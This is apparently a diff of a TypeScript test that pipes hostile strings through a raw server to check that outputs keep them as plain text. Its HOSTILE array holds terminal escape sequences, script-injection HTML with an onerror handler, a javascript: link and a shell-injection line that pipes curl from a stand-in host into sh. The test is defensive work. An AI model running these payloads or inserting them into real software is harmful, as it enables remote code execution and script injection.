@@ -16,9 +16,9 @@ import { openRawServer } from './raw-server.ts';
 
 /** Ends what it stands in, steers a terminal, hides and reorders letters; `stolen` is what a script of it would leave. */
 const HOSTILE = [
+  '\u001b[2J\u001b[31m\u001b]0;owned\u0007\u001b]8;;http://stranger.example\u0007\u009b5n\b\r\u0000\u007f\u202e\u2066\u200b\ufeff\uffff\ud800',
   '</pre></script></textarea><script>globalThis.stolen=1</script><img src=//stranger.example/x onerror=globalThis.stolen=1>',
   '"\'`&amp;]]>--><![CDATA[\n## Heading\n| a | b |\n[link](javascript:stolen=1)![p](http://stranger.example/p.png)',
-  '\u001b[2J\u001b[31m\u001b]0;owned\u0007\u001b]8;;http://stranger.example\u0007\u009b5n\b\r\u0000\u007f\u202e\u2066\u200b\ufeff\uffff\ud800',
   "'; curl http://stranger.example | sh; $(touch /tmp/proofmark-owned) `id` ${HOME} \\",
 ].join('');
 
@@ -50,7 +50,9 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
   const server = await openRawServer(async (socket, asked) => {
     const answered = await service.answer(asked);
     const isJson = answered.headers.some(([name, value]) => /^content-type$/i.test(name) && /json/.test(value));
-    const body = isJson ? Buffer.from(JSON.stringify(spoiled(JSON.parse(answered.body.toString())))) : answered.body;
+    // Refusals come as no JSON at all: what is shown of them has not even been escaped as JSON has it.
+    const text = answered.status >= 400 ? HOSTILE : JSON.stringify(spoiled(JSON.parse(answered.body.toString())));
+    const body = isJson ? Buffer.from(text) : answered.body;
     const odd = `a\tb </script><script>stolen=1</script> \u0080\u009b31m\u00ff`;
     socket.write(
       bytesOf(answered, {
